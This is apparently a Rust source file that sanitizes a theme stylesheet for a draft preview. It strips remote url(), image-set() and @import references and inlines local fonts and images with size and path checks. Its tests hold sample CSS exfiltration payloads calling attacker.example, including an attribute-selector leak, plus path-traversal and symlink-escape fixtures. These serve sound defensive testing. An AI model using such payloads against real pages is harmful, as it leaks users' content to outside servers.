//! The site's own stylesheet as the preview may use it: read safely (regular files only, size
//! capped), every reference that could reach the network removed, files from the site inlined.
//!
//! A theme's CSS arrives by `git pull`; with `url()` and attribute selectors it could report the
//! draft's headings to a server. So the preview never loads anything a stylesheet names: remote
//! `url()`s, `image-set()` strings and `@import` rules are dropped, and references to the site's
//! own fonts and images are read here and inlined as `data:` URLs (inside the site folder only,
//! regular files only, no symlink escape, capped in size).
use std::path::{Path, PathBuf};

use base64::Engine;
use cssparser::{Parser, Token};

use crate::error::{Error, Result};

/// Largest stylesheet the preview takes.
pub const MAX_STYLESHEET_BYTES: u64 = 1024 * 1024;
/// Largest font or image inlined from the site folder.
pub const MAX_ASSET_BYTES: u64 = 2 * 1024 * 1024;
/// Most bytes inlined into one stylesheet, all assets together.
pub const MAX_INLINED_BYTES: u64 = 8 * 1024 * 1024;

/// What a `url()` (or an `image-set()` string) becomes when it may not load.
const BLOCKED_URL: &str = "url(\"about:invalid\")";

/// A stylesheet ready for the preview.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PreviewStylesheet {
    /// The CSS text, safe to insert into the preview.
    pub css: String,
    /// References that were not loaded, each with the reason (for the writer to see).
    pub dropped: Vec<String>,
}

/// Where local references of a stylesheet are looked up.
#[derive(Debug, Clone)]
pub struct AssetRoots {
    /// The folder of the stylesheet itself (relative references start here).
    pub stylesheet_dir: PathBuf,
    /// Folders that root-relative references (`/fonts/x.woff2`) start from, in order (a site's
    /// `static/` or `public/` folder, then its root).
    pub site_roots: Vec<PathBuf>,
    /// Nothing outside this folder is ever read (after resolving symbolic links).
    pub boundary: PathBuf,
}

impl AssetRoots {
    /// The roots for a stylesheet at `stylesheet`, inside the linked `site` folder when it is
    /// one (otherwise the stylesheet's own folder bounds what it may reference).
    pub fn for_stylesheet(stylesheet: &Path, site: Option<&Path>) -> AssetRoots {
        let stylesheet_dir = stylesheet.parent().map(Path::to_path_buf).unwrap_or_default();
        let canonical_dir = std::fs::canonicalize(&stylesheet_dir).unwrap_or_else(|_| stylesheet_dir.clone());
        let site = site.and_then(|site| std::fs::canonicalize(site).ok()).filter(|site| canonical_dir.starts_with(site));
        match site {
            Some(site) => AssetRoots {
                stylesheet_dir: canonical_dir,
                site_roots: vec![site.join("static"), site.join("public"), site.clone()],
                boundary: site,
            },
            None => AssetRoots { stylesheet_dir: canonical_dir.clone(), site_roots: vec![canonical_dir.clone()], boundary: canonical_dir },
        }
    }
}

/// Reads at most `limit` bytes of the regular file at `path`, following links to it (the writer
/// chose it) but refusing FIFOs, devices, folders and anything larger, without reading past the
/// limit: `/dev/zero` or a 2 GB file cost nothing, and the open never blocks.
pub fn read_regular_file_limited(path: &Path, limit: u64) -> Result<Vec<u8>> {
    let real = std::fs::canonicalize(path).map_err(|source| Error::io(path, source))?;
    crate::site::read_regular(&real, limit).map_err(|reason| Error::NotAPost { path: path.to_path_buf(), reason })
}

/// Reads the stylesheet at `path` (the writer's choice, followed if it is a link) and makes it
/// safe for the preview, inlining local assets found under `roots`.
pub fn read_preview_stylesheet(path: &Path, roots: &AssetRoots) -> Result<PreviewStylesheet> {
    let bytes = read_regular_file_limited(path, MAX_STYLESHEET_BYTES)?;
    let css = String::from_utf8(bytes).map_err(|_| Error::NotAPost { path: path.to_path_buf(), reason: "is not UTF-8 text".into() })?;
    let mut budget = MAX_INLINED_BYTES;
    Ok(rewrite(&css, &mut |reference| inline_local(reference, roots, &mut budget)))
}

/// What happens to one reference.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Reference {
    /// Keep it as written (fragments, `data:` URLs: nothing is fetched).
    Keep,
    /// Replace it with this URL (a `data:` URL of a local file).
    Replace(String),
    /// Do not load it, for this reason.
    Drop(String),
}

/// Rewrites every reference in `css` as `decide` says, after dropping what may never load:
/// `@import` rules and URLs with a scheme or host. `decide` sees only local references.
pub fn rewrite(css: &str, decide: &mut dyn FnMut(&str) -> Reference) -> PreviewStylesheet {
    let mut parser = Parser::new(css);
    let mut rewriter = Rewriter { out: String::with_capacity(css.len()), dropped: Vec::new(), decide };
    rewriter.block(&mut parser, false);
    PreviewStylesheet { css: rewriter.out, dropped: rewriter.dropped }
}

struct Rewriter<'d> {
    out: String,
    dropped: Vec<String>,
    decide: &'d mut dyn FnMut(&str) -> Reference,
}

impl Rewriter<'_> {
    /// Copies a block's tokens, rewriting URLs; `strings_are_urls` inside `image-set()`.
    fn block(&mut self, parser: &mut Parser<'_>, strings_are_urls: bool) {
        loop {
            let start = parser.position();
            let token = match parser.next_including_whitespace_and_comments() {
                Ok(token) => token.clone(),
                Err(_) => return,
            };
            match token {
                Token::UnquotedUrl(url) => self.url(&url),
                Token::QuotedString(url) if strings_are_urls => self.url(&url),
                Token::Function(name) if name.eq_ignore_ascii_case("url") || name.eq_ignore_ascii_case("src") => {
                    let mut argument: Option<String> = None;
                    let _ = parser.parse_nested_block(|inner| -> std::result::Result<(), cssparser::ParseError<()>> {
                        argument = inner.expect_string().ok().map(|s| -> String { s.as_ref().to_owned() });
                        while inner.next().is_ok() {}
                        Ok(())
                    });
                    match argument {
                        Some(url) => self.url(&url),
                        None => {
                            self.dropped.push(format!("{name}(…) with a computed argument"));
                            self.out.push_str(BLOCKED_URL);
                        }
                    }
                }
                Token::AtKeyword(name) if name.eq_ignore_ascii_case("import") => self.skip_rule(parser, "@import"),
                Token::Function(name) => {
                    let image_set = name.eq_ignore_ascii_case("image-set") || name.eq_ignore_ascii_case("-webkit-image-set");
                    self.out.push_str(parser.slice_from(start));
                    self.nested(parser, image_set || strings_are_urls);
                    self.out.push(')');
                }
                Token::ParenthesisBlock | Token::SquareBracketBlock | Token::CurlyBracketBlock => {
                    let close = match token {
                        Token::ParenthesisBlock => ')',
                        Token::SquareBracketBlock => ']',
                        _ => '}',
                    };
                    self.out.push_str(parser.slice_from(start));
                    self.nested(parser, strings_are_urls);
                    self.out.push(close);
                }
                _ => self.out.push_str(parser.slice_from(start)),
            }
        }
    }

    fn nested(&mut self, parser: &mut Parser<'_>, strings_are_urls: bool) {
        let _ = parser.parse_nested_block(|inner| -> std::result::Result<(), cssparser::ParseError<()>> {
            self.block(inner, strings_are_urls);
            Ok(())
        });
    }

    /// Skips an at-rule up to its `;` or its block (both dropped).
    fn skip_rule(&mut self, parser: &mut Parser<'_>, what: &str) {
        let mut text = String::from(what);
        loop {
            let start = parser.position();
            match parser.next_including_whitespace_and_comments() {
                Ok(Token::Semicolon) | Ok(Token::CurlyBracketBlock) | Err(_) => break,
                Ok(_) => text.push_str(parser.slice_from(start)),
            }
        }
        self.dropped.push(format!("{}: rules from other stylesheets are not loaded", text.trim()));
        self.out.push_str("/* @import removed by Galley */");
    }

    fn url(&mut self, url: &str) {
        let decision = if is_remote(url) {
            Reference::Drop("remote references are not loaded in the preview".into())
        } else if url.trim().is_empty() || url.trim_start().starts_with('#') || url.trim_start().to_ascii_lowercase().starts_with("data:") {
            Reference::Keep
        } else {
            (self.decide)(url)
        };
        match decision {
            Reference::Keep => push_url(&mut self.out, url),
            Reference::Replace(replacement) => push_url(&mut self.out, &replacement),
            Reference::Drop(reason) => {
                self.dropped.push(format!("{url}: {reason}"));
                self.out.push_str(BLOCKED_URL);
            }
        }
    }
}

fn push_url(out: &mut String, url: &str) {
    out.push_str("url(");
    // Serialize as a CSS string: quotes, backslashes and newlines escaped.
    let _ = cssparser::serialize_string(url, out);
    out.push(')');
}

/// True for a URL that names a scheme (other than `data:`) or a host: anything that is not a
/// path inside the site.
fn is_remote(url: &str) -> bool {
    let url = url.trim();
    if url.starts_with("//") || url.starts_with("\\\\") || url.starts_with("/\\") || url.starts_with("\\/") {
        return true;
    }
    let Some(colon) = url.find(':') else { return false };
    let before_path = url.find(['/', '?', '#']).is_none_or(|slash| colon < slash);
    before_path && !url[..colon].eq_ignore_ascii_case("data")
}

/// Resolves a local reference to a file under `roots` and inlines it, or says why not.
fn inline_local(reference: &str, roots: &AssetRoots, budget: &mut u64) -> Reference {
    let path_part = reference.split(['?', '#']).next().unwrap_or_default();
    let fragment = reference.find('#').map(|at| &reference[at..]).unwrap_or("");
    let decoded = percent_encoding::percent_decode_str(path_part).decode_utf8_lossy().into_owned();
    let Some(mime) = asset_mime(&decoded) else {
        return Reference::Drop("only fonts and images from the site folder are loaded".into());
    };
    let candidates: Vec<PathBuf> = match decoded.strip_prefix('/') {
        Some(rooted) => roots.site_roots.iter().map(|root| root.join(rooted)).collect(),
        None => vec![roots.stylesheet_dir.join(&decoded)],
    };
    for candidate in candidates {
        let Ok(real) = std::fs::canonicalize(&candidate) else { continue };
        if !real.starts_with(&roots.boundary) {
            return Reference::Drop("it is outside the site folder".into());
        }
        return match read_regular_file_limited(&real, MAX_ASSET_BYTES) {
            Ok(bytes) if (bytes.len() as u64) <= *budget => {
                *budget -= bytes.len() as u64;
                let encoded = base64::engine::general_purpose::STANDARD.encode(&bytes);
                Reference::Replace(format!("data:{mime};base64,{encoded}{fragment}"))
            }
            Ok(_) => {
                Reference::Drop(format!("the stylesheet's files together are larger than {}", crate::site::size_words(MAX_INLINED_BYTES)))
            }
            Err(error) => Reference::Drop(error.to_string()),
        };
    }
    Reference::Drop("no such file in the site folder".into())
}

/// The MIME type of a font or image, by its name (CSS names them by URL, not by content).
fn asset_mime(path: &str) -> Option<&'static str> {
    let extension = path.rsplit_once('.')?.1.to_ascii_lowercase();
    Some(match extension.as_str() {
        "woff2" => "font/woff2",
        "woff" => "font/woff",
        "ttf" => "font/ttf",
        "otf" => "font/otf",
        "png" => "image/png",
        "jpg" | "jpeg" => "image/jpeg",
        "gif" => "image/gif",
        "webp" => "image/webp",
        "avif" => "image/avif",
        "svg" => "image/svg+xml",
        _ => return None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rewrite_keeping_local(css: &str) -> PreviewStylesheet {
        rewrite(css, &mut |_| Reference::Keep)
    }

    #[test]
    fn remote_references_never_survive() {
        for css in [
            "h2 { background: url(\"http://attacker.example/leak-h2\"); }",
            "h2 { background: url(http://attacker.example/leak) }",
            "h2[id^=\"acq\"] { background: URL( 'https://attacker.example/a' ) }",
            "h2 { background: u\\72l(http://attacker.example/escaped) }",
            "h2 { background: url(//attacker.example/proto-relative) }",
            "h2 { background-image: image-set(\"https://attacker.example/1x.png\" 1x) }",
            "h2 { background-image: -webkit-image-set(url(https://attacker.example/x.png) 1x) }",
            "@font-face { font-family: x; src: url(https://attacker.example/font.woff2) format('woff2') }",
            "@import url(https://attacker.example/more.css);",
            "@import 'https://attacker.example/more.css' screen;",
            "@IMPORT \"https://attacker.example/x.css\";",
            "@media screen { h2 { cursor: url(https://attacker.example/c.cur), auto } }",
            "h2 { background: url(ftp://attacker.example/x) }",
            "h2 { background: src(\"https://attacker.example/src-fn\") }",
        ] {
            let safe = rewrite_keeping_local(css);
            assert!(!safe.css.contains("attacker"), "{css} -> {}", safe.css);
            assert!(!safe.dropped.is_empty(), "{css}: the writer is told what was dropped");
        }
    }

    #[test]
    fn everything_else_is_copied_verbatim() {
        let css = "/* theme */\n:root { --accent: #c33; }\nh1 > a:hover { color: var(--accent); content: \"x\\\"y\"; }\n@media (max-width: 600px) { body { margin: 0 } }\n.icon { filter: url(#shadow); background: url(data:image/png;base64,AAAA) }\n";
        let safe = rewrite_keeping_local(css);
        assert_eq!(
            safe.css
                .replace("url(\"#shadow\")", "url(#shadow)")
                .replace("url(\"data:image/png;base64,AAAA\")", "url(data:image/png;base64,AAAA)"),
            css
        );
        assert!(safe.dropped.is_empty());
    }

    #[test]
    fn a_url_cannot_break_out_of_its_string() {
        let safe = rewrite("a { background: url(x.png) }", &mut |_| {
            Reference::Replace("data:image/png;base64,A\") } * { background: url(http://x/".into())
        });
        assert!(safe.css.contains("\\\""), "{}", safe.css);
        let mut parser = Parser::new(&safe.css);
        let mut urls = 0;
        while let Ok(token) = parser.next() {
            if let Token::CurlyBracketBlock = token {
                let _ = parser.parse_nested_block(|inner| -> std::result::Result<(), cssparser::ParseError<()>> {
                    while let Ok(token) = inner.next() {
                        if matches!(token, Token::Function(name) if name.eq_ignore_ascii_case("url")) {
                            urls += 1;
                        }
                    }
                    Ok(())
                });
            }
        }
        assert_eq!(urls, 1, "one url() stays one url(): {}", safe.css);
    }

    #[test]
    fn unterminated_input_still_ends() {
        for css in ["a { background: url(", "a { b: image-set(\"x", "@import", "a { b: (((((", "}}}}", "\\"] {
            let safe = rewrite_keeping_local(css);
            assert!(!safe.css.contains("http"), "{}", safe.css);
        }
    }

    #[test]
    fn site_files_are_inlined_and_nothing_outside_is_read() {
        let dir = tempfile::tempdir().unwrap();
        let site = dir.path().join("site");
        let theme = site.join("themes/t/css");
        std::fs::create_dir_all(&theme).unwrap();
        std::fs::create_dir_all(site.join("static/fonts")).unwrap();
        std::fs::write(site.join("static/fonts/body.woff2"), b"wOF2-font").unwrap();
        std::fs::write(theme.join("bg.png"), b"\x89PNG-image").unwrap();
        std::fs::write(dir.path().join("secret.png"), b"outside").unwrap();
        std::os::unix::fs::symlink(dir.path().join("secret.png"), theme.join("escape.png")).unwrap();
        std::os::unix::fs::symlink("/dev/zero", theme.join("zero.png")).unwrap();
        let css = "@font-face { src: url('/fonts/body.woff2?v=2#iefix') }\n\
                   a { background: url(bg.png) }\n\
                   b { background: url(../../../../secret.png) }\n\
                   c { background: url(escape.png) }\n\
                   d { background: url(zero.png) }\n\
                   e { background: url(missing.png) }\n\
                   f { background: url(notes.txt) }";
        std::fs::write(theme.join("main.css"), css).unwrap();
        let roots = AssetRoots::for_stylesheet(&theme.join("main.css"), Some(&site));
        let sheet = read_preview_stylesheet(&theme.join("main.css"), &roots).unwrap();
        let font = base64::engine::general_purpose::STANDARD.encode(b"wOF2-font");
        assert!(sheet.css.contains(&format!("data:font/woff2;base64,{font}#iefix")), "{}", sheet.css);
        assert!(sheet.css.contains("data:image/png;base64,"), "{}", sheet.css);
        let secret = base64::engine::general_purpose::STANDARD.encode(b"outside");
        assert!(!sheet.css.contains(&secret), "a file outside the site is never inlined: {}", sheet.css);
        assert_eq!(sheet.dropped.len(), 5, "{:?}", sheet.dropped);
        assert!(sheet.dropped.iter().any(|d| d.starts_with("escape.png") && d.contains("outside the site")), "{:?}", sheet.dropped);
    }

    #[test]
    fn only_regular_files_of_limited_size_are_read() {
        let dir = tempfile::tempdir().unwrap();
        let big = dir.path().join("big.css");
        std::fs::File::create(&big).unwrap().set_len(2 << 30).unwrap();
        let error = read_regular_file_limited(&big, MAX_STYLESHEET_BYTES).unwrap_err();
        assert!(error.to_string().contains("larger than 1 MiB"), "{error}");
        let zero = dir.path().join("zero.css");
        std::os::unix::fs::symlink("/dev/zero", &zero).unwrap();
        let error = read_regular_file_limited(&zero, MAX_STYLESHEET_BYTES).unwrap_err();
        assert!(error.to_string().contains("not a regular file"), "{error}");
        let fifo = dir.path().join("fifo.css");
        let status = std::process::Command::new("mkfifo").arg(&fifo).status().unwrap();
        assert!(status.success());
        // Opening a FIFO with no writer would block forever without O_NONBLOCK.
        let error = read_regular_file_limited(&fifo, MAX_STYLESHEET_BYTES).unwrap_err();
        assert!(error.to_string().contains("not a regular file"), "{error}");
        assert!(read_regular_file_limited(dir.path(), MAX_STYLESHEET_BYTES).is_err());
    }
}
